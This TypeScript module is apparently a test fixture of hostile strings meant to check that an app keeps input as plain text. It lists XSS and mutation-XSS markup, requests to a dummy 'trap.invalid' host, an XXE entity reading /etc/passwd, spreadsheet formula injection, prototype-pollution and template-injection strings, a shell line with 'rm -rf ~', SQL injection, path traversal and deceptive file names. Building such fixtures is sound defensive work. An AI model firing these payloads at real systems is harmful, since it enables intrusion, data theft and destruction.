/**
 * Text that is no harm as text and harm as anything else, by what it would be taken for. Whatever runs calls `pwn()` or asks for something
 * under `TRAP`: the page that the tests open counts both.
 */

/** A host that does not exist; a request to it is a payload that was taken for an address. */
export const TRAP = 'http://trap.invalid'

const RUN = `window.__pwned=(window.__pwned||0)+1`

const MARKUP = {
  'script element': `<script>${RUN}</script>`,
  'script from elsewhere': `<script src="${TRAP}/a.js"></script>`,
  'image with a handler': `<img src="${TRAP}/a.png" onerror="${RUN}">`,
  'svg with a handler': `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName="x"/></svg>`,
  'handler that breaks out of quotes': `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`,
  'handler that breaks out of single quotes': `' onmouseover='${RUN}' x='`,
  'javascript address': `<a href="javascript:${RUN}">letter</a>`,
  'javascript address cut by a tab': `<a href="java\tscript:${RUN}">letter</a>`,
  'data address': `<iframe src="data:text/html,<script>parent.${RUN}</script>"></iframe>`,
  'form that posts': `<form action="${TRAP}/post" method="post"><button autofocus>x</button></form>`,
  'style that fetches': `<style>@import url(${TRAP}/a.css);body{background:url(${TRAP}/b)}</style>`,
  'link that fetches': `<link rel="stylesheet" href="${TRAP}/c.css"><link rel="prefetch" href="${TRAP}/d">`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${TRAP}/e">`,
  'base element': `<base href="${TRAP}/">`,
  'object and embed': `<object data="${TRAP}/f"></object><embed src="${TRAP}/g">`,
  'template and noscript': `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript><template><img src=x onerror=${RUN}></template>`,
  'mutation in mathml': `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${RUN}>">`,
  'mutation in svg': `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  'end of a title': `</title></style></textarea></script><script>${RUN}</script>`,
  'end of CDATA': `]]><script>${RUN}</script><![CDATA[`,
  'end of a comment': `--><script>${RUN}</script><!-- -- -->`,
  'Word’s condition': `<!--[if gte mso 9]><xml><o:p onclick="${RUN}">x</o:p></xml><![endif]-->`,
} as const

const XML = {
  'XML declaration': '<?xml version="1.0"?><?php echo 1 ?>',
  'document type with an entity': '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  entities: '&lt;b&gt; &amp;amp; &#60;script&#62; &nosuch; &#0; &#xD800;',
} as const

const SIGNS = {
  'control characters': 'a\u0001b\u0008c\u000bd\u001be\u007ff\u0085g\u009fh',
  'zero character': 'before\u0000after',
  'lone surrogates': 'a\ud800b\udc00c\udfff',
  'no characters': 'a\ufffeb\uffffc',
  'object replacement and private use': 'a\ufffcb\ue000c\ufffdd',
  'direction overrides': 'pay \u202e00.1\u202c \u202aabc\u202b def\u202c \u202d ghi',
  'direction isolates, not closed': 'a \u2066b \u2067c \u2068d',
  'zero-width characters': 'he\u200bllo\u200c wor\u200dld\u2060 \ufeffx\u00ad\u180e\u200e\u200f\u061c',
  'right-to-left words': '\u05e9\u05dc\u05d5\u05dd (abc) \u0645\u0631\u062d\u0628\u0627 123',
  'flood of accents': `Z${'\u0300\u0301\u0302\u0327\u0489'.repeat(60)}algo`,
  'very long word': 'W'.repeat(5000),
  'line ends of every kind': 'a\u2028b\u2029c',
  'emoji and astral letters': '\u{1f469}\u200d\u{1f4bb} \u{1d504} \u{10ffff}',
  'tags and variation selectors': 'a\u{e0041}\u{e0042}\ufe0f\u{e0100}b',
} as const

const CODE = {
  formula: `=HYPERLINK("${TRAP}/h","click")`,
  'formula with plus': "+1+cmd|' /C calc'!A0",
  'formula with minus': "-2+3+cmd|' /C calc'!A0",
  'formula with at': "@SUM(1+1)*cmd|' /C calc'!A0",
  'secret of an object': '__proto__',
  constructor: 'constructor',
  prototype: 'prototype',
  'template signs': `\${${RUN}} {{constructor.constructor('${RUN}')()}} <%= ${RUN} %> #{1}`,
  JSON: '{"__proto__":{"polluted":1},"lb":true}',
  'quotes and backslashes': `"'\`\\\\" \\u0022 \\x3c \\`,
  shell: '$(touch /tmp/pwned); `id` | cat & rm -rf ~ #',
  SQL: `'; DROP TABLE letters; --`,
  format: '%s%n%x%00%2e%2e',
} as const

const PATHS = {
  'path upwards': '../../etc/passwd',
  'path upwards, encoded': '..%2f..%2fetc%2fpasswd',
  'absolute path': '/etc/passwd',
  drive: 'C:\\Windows\\win.ini',
  share: '\\\\server\\share\\x',
  'file address': 'file:///etc/passwd',
  'name with a zero': 'letter.txt\u0000.png',
  device: 'CON',
} as const

/** Every payload by its name, all of it text. */
export const PAYLOADS: Readonly<Record<string, string>> = { ...MARKUP, ...XML, ...SIGNS, ...CODE, ...PATHS }

/** The payloads that a browser would act on if it took them for markup. */
export const MARKUP_PAYLOADS: Readonly<Record<string, string>> = MARKUP

/** Strings that name something of a place outside the folder, or nothing at all. */
export const PATH_PAYLOADS: Readonly<Record<string, string>> = PATHS

/** Without what no file of UTF-8 can hold, and without NUL, which makes a file binary. */
export const fileText = (text: string) => text.replaceAll('\u0000', '').toWellFormed()

/** One text that holds every payload, each a paragraph after its name. */
export const LETTER_OF_PAYLOADS = `${Object.entries(PAYLOADS)
  .map(([name, payload]) => `${name}\n${fileText(payload)}`)
  .join('\n\n')}\n`

/** File names that a disk of Linux can hold and that look like something else. */
export const NAMES: readonly string[] = [
  `<img src=x onerror=${RUN}>.txt`,
  `"><script>${RUN}<.txt`,
  `' onmouseover='${RUN}' '.txt`,
  '=1+1.txt',
  '__proto__.txt',
  'constructor.txt',
  '\u202etxt.exe.txt',
  'a\u200bb.txt',
  `\${7*7}{{7*7}}.txt`,
  '%2e%2e%2fx.txt',
  'javascript:alert(1).txt',
  '&lt;b&gt;&amp;.txt',
  '--help.txt',
  '$(id).txt',
  `${'\u0301'.repeat(40)}.txt`,
]
